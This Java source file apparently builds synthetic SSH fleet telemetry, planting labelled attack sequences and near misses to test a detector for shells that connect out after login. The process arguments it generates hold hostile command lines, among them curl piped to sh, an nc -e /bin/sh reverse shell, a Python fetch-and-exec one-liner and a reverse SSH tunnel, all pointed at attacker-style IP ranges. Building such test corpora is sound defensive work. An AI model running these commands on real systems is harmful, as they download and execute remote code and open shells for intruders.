package io.sshdnetcon.fleet;

import io.sshdnetcon.fleet.PlantedAttack.AttackVariant;
import io.sshdnetcon.fleet.PlantedNearMiss.NearMissKind;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Builds the planted sequences: true attacks (sshd starts a shell, a child of the shell connects
 * out within 0..1000 ms) and near misses that differ from an attack in exactly one respect. Each
 * sequence is a whole SSH login on a Linux host with fresh entity ids, so nothing else in the
 * corpus can join with it.
 */
final class PlantedScenarios {

    /**
     * A planted sequence and what it is: exactly one of {@code attack} and {@code nearMiss} is set.
     */
    record Planted(List<FleetEvent> events, PlantedAttack attack, PlantedNearMiss nearMiss) {}

    private record NearMissSpec(NearMissKind kind, String detail) {}

    /**
     * The near misses in planting order. The first 22 cover every kind and every allowlist entry;
     * the rest walk the edges of the excluded ranges. A corpus with 15 attacks has 45 near misses
     * and so plants all of them.
     */
    private static final List<NearMissSpec> NEAR_MISSES =
            List.of(
                    new NearMissSpec(NearMissKind.GAP_1001_MS, ""),
                    new NearMissSpec(NearMissKind.SHELL_ITSELF_CONNECTS, ""),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "172.31.255.255"),
                    new NearMissSpec(NearMissKind.ALLOWLISTED_PROCESS, "ssh"),
                    new NearMissSpec(NearMissKind.OS_TYPE_CASE, "Linux"),
                    new NearMissSpec(NearMissKind.PARENT_EXECUTABLE_CASE, "/USR/SBIN/SSHD"),
                    new NearMissSpec(NearMissKind.CHILD_ON_OTHER_HOST, ""),
                    new NearMissSpec(NearMissKind.NETWORK_BEFORE_EXEC, ""),
                    new NearMissSpec(NearMissKind.MISSING_DESTINATION_IP, ""),
                    new NearMissSpec(NearMissKind.MISSING_PARENT_ENTITY_ID, ""),
                    new NearMissSpec(NearMissKind.CONNECTION_ACCEPTED, ""),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "100.127.255.255"),
                    new NearMissSpec(NearMissKind.ALLOWLISTED_PROCESS, "sshd"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "fe80::1%eth0"),
                    new NearMissSpec(NearMissKind.ALLOWLISTED_PROCESS, "sshd-session"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "::ffff:10.0.0.1"),
                    new NearMissSpec(NearMissKind.ALLOWLISTED_PROCESS, "login_duo"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "0.0.0.0"),
                    new NearMissSpec(NearMissKind.ALLOWLISTED_PROCESS, "/bin/yum"),
                    new NearMissSpec(NearMissKind.OS_TYPE_CASE, "LINUX"),
                    new NearMissSpec(NearMissKind.ALLOWLISTED_PROCESS, "/usr/bin/yum"),
                    new NearMissSpec(NearMissKind.GRANDCHILD_CONNECTS, ""),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "169.254.169.254"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "10.255.255.255"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "127.0.0.53"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "192.168.255.255"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "224.0.0.251"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "255.255.255.255"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "::1"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "ff02::fb"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "198.19.255.255"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "192.0.0.171"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "203.0.113.255"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "172.16.0.0"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "100.64.0.0"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "FE80::1"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "febf:ffff::1"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "192.88.99.1"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "240.0.0.1"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "198.51.100.7"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "192.0.2.1"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "192.31.196.1"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "192.52.193.1"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "192.175.48.1"),
                    new NearMissSpec(NearMissKind.EXCLUDED_DESTINATION, "::ffff:127.0.0.1"));

    /** Public addresses right outside the excluded ranges, or tricky spellings of public ones. */
    static final List<String> EDGE_DESTINATIONS =
            List.of(
                    "172.32.0.1",
                    "100.128.0.1",
                    "11.0.0.1",
                    "9.255.255.255",
                    "0.0.0.1",
                    "223.255.255.255",
                    "198.20.0.1",
                    "192.0.1.1",
                    "192.169.0.1",
                    "172.15.255.255",
                    "100.63.255.255",
                    "198.17.255.255",
                    "192.31.197.1",
                    "203.0.114.1",
                    "198.51.101.1",
                    "::10.0.0.1",
                    "fec0::1",
                    "fe7f:ffff::1",
                    "2001:db8::1",
                    "::ffff:8.8.8.8",
                    "2606:4700:4700::1111%eth0");

    private static final List<String> IPV6_DESTINATIONS =
            List.of(
                    "2001:4860:4860::8888",
                    "2606:4700:4700::1111",
                    "2a03:2880:f12f:83:face:b00c:0:25de",
                    "2a01:4f8:c17:b8f::2",
                    "2A0E:1C80:1:1::45");

    /**
     * Hosting ranges that show up in real intrusions (bulletproof hosters, Tor exits, cheap VPS).
     */
    private static final List<String> ATTACKER_PREFIXES =
            List.of(
                    "185.220.101.",
                    "45.155.205.",
                    "194.165.16.",
                    "91.92.240.",
                    "103.145.13.",
                    "5.188.206.",
                    "141.98.10.",
                    "179.43.187.");

    private static final List<String> DUO_API = List.of("52.19.127.20", "35.169.13.60");
    private static final List<String> YUM_MIRRORS =
            List.of("3.125.36.177", "18.192.84.15", "151.101.2.132");

    private record Tool(String name, String executable) {}

    private static final List<Tool> TOOLS =
            List.of(
                    new Tool("curl", "/usr/bin/curl"),
                    new Tool("wget", "/usr/bin/wget"),
                    new Tool("nc", "/usr/bin/nc"),
                    new Tool("python3", "/usr/bin/python3"));

    private final List<FleetHost> linuxHosts;
    private final SplittableRandom rng;
    private final List<FleetHost> faultyHosts;

    /**
     * @param faultyHosts hosts with clock faults: they get the first attacks and near misses, one
     *     each, then every second one in turn, so each has some spread over the whole corpus
     */
    PlantedScenarios(
            List<FleetHost> linuxHosts, SplittableRandom rng, List<FleetHost> faultyHosts) {
        if (linuxHosts.size() < 2) {
            throw new IllegalArgumentException("planted sequences need two Linux hosts");
        }
        this.linuxHosts = linuxHosts;
        this.rng = rng;
        this.faultyHosts = List.copyOf(faultyHosts);
    }

    static int nearMissSpecCount() {
        return NEAR_MISSES.size();
    }

    Planted attack(int ordinal, long startMs) {
        AttackVariant[] variants = AttackVariant.values();
        AttackVariant variant = variants[ordinal % variants.length];
        int round = ordinal / variants.length;
        Activity a = new Activity(rng);
        FleetHost host = assign(ordinal, pickHost());
        UserAccount user = user(host);
        boolean commandSession = variant == AttackVariant.COMMAND_SESSION;
        String destination =
                switch (variant) {
                    case IPV6_DESTINATION ->
                            IPV6_DESTINATIONS.get(round % IPV6_DESTINATIONS.size());
                    case EDGE_DESTINATION ->
                            EDGE_DESTINATIONS.get(round % EDGE_DESTINATIONS.size());
                    default -> attackerIp();
                };
        int port = pickPort(443, 80, 4444, 8080, 1337, 9001);
        Tool tool =
                variant == AttackVariant.CASE_VARIANT_NAME
                        ? new Tool("SSH", "/tmp/.ICE-unix/SSH")
                        : TOOLS.get((ordinal / 3) % TOOLS.size());
        String url =
                "http://"
                        + (destination.indexOf(':') >= 0 ? "[" + destination + "]" : destination)
                        + ":"
                        + port;
        SshLogin login =
                commandSession
                        ? openLogin(
                                a,
                                host,
                                startMs,
                                user,
                                "sh",
                                "/bin/sh",
                                List.of("sh", "-c", "curl -fsSL " + url + "/i.sh | sh"))
                        : openLogin(
                                a,
                                host,
                                startMs,
                                user,
                                "bash",
                                pick("/usr/bin/bash", "/bin/bash"),
                                List.of("-bash"));
        if (commandSession) {
            tool = TOOLS.get(0);
        }
        long t0 = login.shellExecMs();
        FleetEvent exec = login.shellExec();
        long gap =
                switch (variant) {
                    case GAP_0, GAP_0_NETWORK_LINE_FIRST -> 0;
                    case GAP_1000 -> 1000;
                    default -> 1 + rng.nextInt(999);
                };
        FleetEvent alerting;
        switch (variant) {
            case AFTER_EXCLUDED_CONNECTION -> {
                long first = 1 + rng.nextInt((int) gap);
                ProcessImage child = child(a, login, t0 + first - 1, tool, url);
                FleetEvent excluded =
                        a.connect(
                                host,
                                t0 + first,
                                child,
                                login.shell(),
                                "tcp",
                                "10."
                                        + rng.nextInt(256)
                                        + "."
                                        + rng.nextInt(256)
                                        + "."
                                        + (1 + rng.nextInt(254)),
                                8080);
                gap = Math.max(gap, first + 1);
                alerting =
                        a.connect(host, t0 + gap, child, login.shell(), "tcp", destination, port);
                a.end(host, t0 + gap + 30, child, login.shell());
                a.disconnect(host, t0 + gap + 20, excluded);
            }
            case AFTER_ALLOWLISTED_CONNECTION -> {
                long first = 1 + rng.nextInt((int) gap);
                ProcessImage ssh =
                        a.forkExec(
                                host,
                                t0 + first - 1,
                                t0 + first - 1,
                                login.shell(),
                                user,
                                login.shell().workingDirectory(),
                                "ssh",
                                "/usr/bin/ssh",
                                List.of(
                                        "ssh",
                                        "-N",
                                        "-R",
                                        "2222:localhost:22",
                                        "tunnel@" + attackerIp()));
                a.connect(host, t0 + first, ssh, login.shell(), "tcp", attackerIp(), 22);
                gap = Math.max(gap, first + 1);
                ProcessImage child = child(a, login, t0 + first, tool, url);
                alerting =
                        a.connect(host, t0 + gap, child, login.shell(), "tcp", destination, port);
                a.end(host, t0 + gap + 40, child, login.shell());
            }
            case SECOND_CONNECTION_NOT_ALERTED -> {
                gap = Math.min(gap, 900);
                ProcessImage child = child(a, login, t0 + gap, tool, url);
                alerting =
                        a.connect(host, t0 + gap, child, login.shell(), "tcp", destination, port);
                ProcessImage second = child(a, login, t0 + gap + 1, TOOLS.get(1), url);
                a.connect(
                        host,
                        t0 + gap + 1 + rng.nextInt(99),
                        second,
                        login.shell(),
                        "tcp",
                        attackerIp(),
                        443);
                a.end(host, t0 + gap + 150, child, login.shell());
                a.end(host, t0 + gap + 160, second, login.shell());
            }
            case SHELL_REEXEC -> {
                // .bashrc ends in "exec bash -l": same process, same entity id, a second exec
                // event.
                long reexecMs = t0 + 1 + rng.nextInt(500);
                ProcessImage relogin =
                        login.shell()
                                .exec("bash", login.shell().executable(), List.of("bash", "-l"));
                exec = a.exec(host, reexecMs, relogin, login.shellParent());
                gap = rng.nextInt(1001);
                ProcessImage child = child(a, login, reexecMs + gap, tool, url);
                alerting =
                        a.connect(host, reexecMs + gap, child, relogin, "tcp", destination, port);
                a.end(host, reexecMs + gap + 60, child, relogin);
                t0 = reexecMs;
            }
            default -> {
                ProcessImage child = child(a, login, t0 + gap, tool, url);
                alerting =
                        a.connect(host, t0 + gap, child, login.shell(), "tcp", destination, port);
                if (variant == AttackVariant.MISSING_PROCESS_NAME) {
                    alerting =
                            a.replace(
                                    alerting,
                                    alerting.withQuirks(FleetEvent.Quirks.noProcessName()));
                }
                if (variant == AttackVariant.GAP_0_NETWORK_LINE_FIRST) {
                    a.moveToEnd(exec); // same millisecond, exec line delivered after the connection
                }
                a.end(host, t0 + gap + 50 + rng.nextInt(800), child, login.shell());
            }
        }
        login.close(a, t0 + gap + 2_000 + rng.nextInt(6_000));
        PlantedAttack label =
                new PlantedAttack(
                        variant,
                        host.name,
                        exec.eventId(),
                        alerting.eventId(),
                        alerting.timestampMs() - exec.timestampMs(),
                        alerting.connection().destinationIp());
        return new Planted(a.events(), label, null);
    }

    Planted nearMiss(int ordinal, long startMs) {
        NearMissSpec spec = NEAR_MISSES.get(ordinal % NEAR_MISSES.size());
        Activity a = new Activity(rng);
        FleetHost host = assign(ordinal, pickHost());
        UserAccount user = user(host);
        boolean direct =
                spec.kind()
                        == NearMissKind.SHELL_ITSELF_CONNECTS; // shell's parent is the exec'd sshd
        SshLogin login =
                SshLogin.open(
                        a,
                        host,
                        rng,
                        startMs,
                        authDelay(),
                        user,
                        publicClientIp(),
                        !direct,
                        "bash",
                        "/usr/bin/bash",
                        List.of("-bash"));
        long t0 = login.shellExecMs();
        long gap = rng.nextInt(1001);
        Tool tool = TOOLS.get(ordinal % TOOLS.size());
        String destination = attackerIp();
        String url = "http://" + destination + "/x";
        FleetEvent exec = login.shellExec();
        FleetEvent network;
        switch (spec.kind()) {
            case GAP_1001_MS -> {
                gap = 1001;
                ProcessImage child = child(a, login, t0 + 900, tool, url);
                network = a.connect(host, t0 + gap, child, login.shell(), "tcp", destination, 443);
            }
            case SHELL_ITSELF_CONNECTS -> // bash's /dev/tcp: the shell is the connecting process
                    network =
                            a.connect(
                                    host,
                                    t0 + gap,
                                    login.shell(),
                                    login.shellParent(),
                                    "tcp",
                                    destination,
                                    443);
            case EXCLUDED_DESTINATION -> {
                ProcessImage child =
                        child(a, login, t0 + gap, tool, "http://" + spec.detail() + "/x");
                network =
                        a.connect(
                                host,
                                t0 + gap,
                                child,
                                login.shell(),
                                spec.detail().startsWith("::")
                                                || spec.detail().contains("255.255.255.255")
                                                || spec.detail().startsWith("224.")
                                        ? "udp"
                                        : "tcp",
                                spec.detail(),
                                80);
            }
            case ALLOWLISTED_PROCESS -> {
                ProcessImage child = allowlisted(a, login, t0 + gap, spec.detail());
                String target =
                        switch (spec.detail()) {
                            case "login_duo" -> DUO_API.get(ordinal % DUO_API.size());
                            case "/bin/yum", "/usr/bin/yum" ->
                                    YUM_MIRRORS.get(ordinal % YUM_MIRRORS.size());
                            default -> destination;
                        };
                network =
                        a.connect(
                                host,
                                t0 + gap,
                                child,
                                login.shell(),
                                "tcp",
                                target,
                                spec.detail().startsWith("ssh") ? 22 : 443);
            }
            case OS_TYPE_CASE -> {
                ProcessImage child = child(a, login, t0 + gap, tool, url);
                network = a.connect(host, t0 + gap, child, login.shell(), "tcp", destination, 443);
                if (spec.detail().equals("Linux")) {
                    exec = a.replace(exec, exec.withQuirks(FleetEvent.Quirks.osType("Linux")));
                } else {
                    network =
                            a.replace(
                                    network, network.withQuirks(FleetEvent.Quirks.osType("LINUX")));
                }
            }
            case PARENT_EXECUTABLE_CASE -> {
                FleetEvent shouting =
                        new FleetEvent(
                                exec.timestampMs(),
                                host,
                                exec.eventId(),
                                exec.shape(),
                                exec.process(),
                                exec.parent().withExecutable(spec.detail()),
                                null,
                                null,
                                null,
                                FleetEvent.Quirks.NONE,
                                KeyStyle.NESTED);
                exec = a.replace(exec, shouting);
                ProcessImage child = child(a, login, t0 + gap, tool, url);
                network = a.connect(host, t0 + gap, child, login.shell(), "tcp", destination, 443);
            }
            case CHILD_ON_OTHER_HOST -> {
                FleetHost other = otherHost(host);
                ProcessImage child =
                        a.forkExec(
                                other,
                                t0 + gap,
                                t0 + gap,
                                login.shell(),
                                user,
                                "/tmp",
                                tool.name(),
                                tool.executable(),
                                toolArgs(tool, url));
                network = a.connect(other, t0 + gap, child, login.shell(), "tcp", destination, 443);
                a.end(other, t0 + gap + 100, child, login.shell());
            }
            case NETWORK_BEFORE_EXEC -> {
                gap = -5;
                ProcessImage child = child(a, login, t0 - 7, tool, url);
                network = a.connect(host, t0 - 5, child, login.shell(), "tcp", destination, 443);
            }
            case MISSING_DESTINATION_IP -> {
                ProcessImage child = child(a, login, t0 + gap, tool, url);
                network = a.connect(host, t0 + gap, child, login.shell(), "tcp", destination, 443);
                network =
                        a.replace(network, network.withQuirks(FleetEvent.Quirks.noDestinationIp()));
            }
            case MISSING_PARENT_ENTITY_ID -> {
                ProcessImage child = child(a, login, t0 + gap, tool, url);
                network = a.connect(host, t0 + gap, child, login.shell(), "tcp", destination, 443);
                network =
                        a.replace(
                                network, network.withQuirks(FleetEvent.Quirks.noParentEntityId()));
            }
            case CONNECTION_ACCEPTED -> {
                ProcessImage listener =
                        a.forkExec(
                                host,
                                t0 + Math.max(0, gap - 1),
                                t0 + Math.max(0, gap - 1),
                                login.shell(),
                                user,
                                login.shell().workingDirectory(),
                                "nc",
                                "/usr/bin/nc",
                                List.of("nc", "-lvnp", "4444"));
                network = a.accept(host, t0 + gap, listener, login.shell(), destination, 4444);
            }
            case GRANDCHILD_CONNECTS -> {
                ProcessImage sudo =
                        a.forkExec(
                                host,
                                t0 + Math.max(0, gap - 2),
                                t0 + Math.max(0, gap - 2),
                                login.shell(),
                                user,
                                login.shell().workingDirectory(),
                                "sudo",
                                "/usr/bin/sudo",
                                List.of("sudo", "curl", "-fsSL", url));
                ProcessImage curl =
                        a.forkExec(
                                host,
                                t0 + Math.max(0, gap - 1),
                                t0 + Math.max(0, gap - 1),
                                sudo,
                                UserAccount.ROOT,
                                login.shell().workingDirectory(),
                                "curl",
                                "/usr/bin/curl",
                                List.of("curl", "-fsSL", url));
                network = a.connect(host, t0 + gap, curl, sudo, "tcp", destination, 443);
            }
            default -> throw new IllegalStateException("unplanned near miss " + spec.kind());
        }
        login.close(a, t0 + Math.max(gap, 0) + 3_000 + rng.nextInt(6_000));
        PlantedNearMiss label =
                new PlantedNearMiss(
                        spec.kind(), spec.detail(), host.name, exec.eventId(), network.eventId());
        return new Planted(a.events(), null, label);
    }

    private SshLogin openLogin(
            Activity a,
            FleetHost host,
            long startMs,
            UserAccount user,
            String shellName,
            String shellExecutable,
            List<String> shellArgs) {
        return SshLogin.open(
                a,
                host,
                rng,
                startMs,
                authDelay(),
                user,
                publicClientIp(),
                rng.nextInt(4) != 0,
                shellName,
                shellExecutable,
                shellArgs);
    }

    /**
     * A child of the shell: fork and exec at {@code execMs} at the latest, never before the shell's
     * exec.
     */
    private ProcessImage child(Activity a, SshLogin login, long execMs, Tool tool, String url) {
        long forkMs = Math.max(login.shellExecMs(), execMs - rng.nextInt(3));
        if (execMs < login.shellExecMs()) {
            forkMs = execMs; // the NETWORK_BEFORE_EXEC near miss: skewed clocks, nothing is causal
        }
        return a.forkExec(
                login.host(),
                forkMs,
                execMs,
                login.shell(),
                login.shell().user(),
                login.shell().workingDirectory(),
                tool.name(),
                tool.executable(),
                toolArgs(tool, url));
    }

    private static List<String> toolArgs(Tool tool, String url) {
        return switch (tool.name()) {
            case "curl" -> List.of("curl", "-fsSL", url);
            case "wget" -> List.of("wget", "-qO-", url);
            case "nc" -> List.of("nc", hostOf(url), portOf(url), "-e", "/bin/sh");
            case "python3" ->
                    List.of(
                            "python3",
                            "-c",
                            "import urllib.request as u;exec(u.urlopen('" + url + "').read())");
            default -> List.of(tool.executable(), url);
        };
    }

    private ProcessImage allowlisted(Activity a, SshLogin login, long execMs, String which) {
        String name;
        String executable;
        List<String> args;
        switch (which) {
            case "ssh" -> {
                name = "ssh";
                executable = "/usr/bin/ssh";
                args = List.of("ssh", "-o", "StrictHostKeyChecking=no", "backup@" + attackerIp());
            }
            case "sshd" -> {
                name = "sshd";
                executable = "/usr/sbin/sshd";
                args = List.of("/usr/sbin/sshd", "-D", "-p", "2222");
            }
            case "sshd-session" -> {
                name = "sshd-session";
                executable = "/usr/lib/openssh/sshd-session";
                args = List.of("sshd-session: " + login.shell().user().name());
            }
            case "login_duo" -> {
                name = "login_duo";
                executable = "/usr/sbin/login_duo";
                args = List.of("/usr/sbin/login_duo");
            }
            default -> { // "/bin/yum" and "/usr/bin/yum"
                name = "yum";
                executable = which;
                args = List.of("yum", "-y", "install", "htop");
            }
        }
        return a.forkExec(
                login.host(),
                execMs,
                execMs,
                login.shell(),
                login.shell().user(),
                login.shell().workingDirectory(),
                name,
                executable,
                args);
    }

    private FleetHost pickHost() {
        return linuxHosts.get(rng.nextInt(linuxHosts.size()));
    }

    /**
     * The random pick is always drawn, so that without faulty hosts the random stream, and so the
     * corpus, is what it always was.
     */
    private FleetHost assign(int ordinal, FleetHost picked) {
        int n = faultyHosts.size();
        if (n == 0) {
            return picked;
        }
        if (ordinal < n) {
            return faultyHosts.get(ordinal);
        }
        int rest = ordinal - n;
        return rest % 2 == 0 ? faultyHosts.get(rest / 2 % n) : picked;
    }

    private FleetHost otherHost(FleetHost host) {
        FleetHost other = linuxHosts.get(rng.nextInt(linuxHosts.size() - 1));
        return other == host ? linuxHosts.get(linuxHosts.size() - 1) : other;
    }

    private long authDelay() {
        return SshLogin.MIN_AUTH_DELAY_MS + rng.nextInt(6_000);
    }

    private UserAccount user(FleetHost host) {
        return switch (rng.nextInt(4)) {
            case 0 -> UserAccount.ROOT;
            case 1 ->
                    new UserAccount(
                            "1000", host.os.family().equals("amzn") ? "ec2-user" : "ubuntu");
            case 2 -> new UserAccount("1001", "alice");
            default -> new UserAccount("1500", "deploy");
        };
    }

    private String attackerIp() {
        return ATTACKER_PREFIXES.get(rng.nextInt(ATTACKER_PREFIXES.size()))
                + (1 + rng.nextInt(254));
    }

    private String publicClientIp() {
        return pick("73.", "98.", "24.", "86.", "81.", "176.", "212.")
                + rng.nextInt(256)
                + "."
                + rng.nextInt(256)
                + "."
                + (1 + rng.nextInt(254));
    }

    @SafeVarargs
    private <T> T pick(T... options) {
        return options[rng.nextInt(options.length)];
    }

    private int pickPort(int... options) {
        return options[rng.nextInt(options.length)];
    }

    private static String hostOf(String url) {
        String rest = url.substring(url.indexOf("//") + 2);
        if (rest.startsWith("[")) {
            return rest.substring(1, rest.indexOf(']'));
        }
        int end = rest.indexOf(':') >= 0 ? rest.indexOf(':') : rest.indexOf('/');
        return end >= 0 ? rest.substring(0, end) : rest;
    }

    private static String portOf(String url) {
        String rest = url.substring(url.indexOf("//") + 2);
        int close = rest.indexOf(']');
        int colon = rest.indexOf(':', Math.max(close, 0));
        if (colon < 0 || (rest.startsWith("[") && colon < close)) {
            return "80";
        }
        int slash = rest.indexOf('/', colon);
        return rest.substring(colon + 1, slash < 0 ? rest.length() : slash);
    }
}
